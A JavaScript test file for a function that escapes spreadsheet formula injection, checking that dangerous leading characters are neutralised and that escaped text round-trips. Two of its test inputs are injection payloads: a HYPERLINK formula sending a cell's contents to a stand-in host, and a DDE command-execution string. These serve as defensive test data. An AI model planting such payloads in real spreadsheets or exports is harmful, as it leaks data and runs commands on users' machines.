import { escapeFormula, originalText } from './escape-formula.js';

describe('a cell of a spreadsheet', () => {
  it.each(['=1+1', '+1 319 555', '-2', '@SUM(A1)', '\t=1', '\r=1', '\n=1', '＝1', '＋1', '－1', '＠x', '|x', '%x'])(
    'is no formula: %j',
    (text) => {
      expect(escapeFormula(text)).toBe(`'${text}`);
      expect(originalText(escapeFormula(text))).toBe(text);
    },
  );

  it.each(["'=1", "''-", '=HYPERLINK("http://evil.example/?"&A1,"x")', `=cmd|' /C calc'!A0`])(
    'tells afterwards what it was: %j',
    (text) => {
      expect(escapeFormula(text)).toMatch(/^'/);
      expect(originalText(escapeFormula(text))).toBe(text);
    },
  );

  it.each(['', 'Keokuk', '4 x 3 inches', "'tis", '3-4', 'a=b', ' =1'])(
    'stays as it is where it is none: %j',
    (text) => {
      expect(escapeFormula(text)).toBe(text);
      expect(originalText(text)).toBe(text);
    },
  );
});
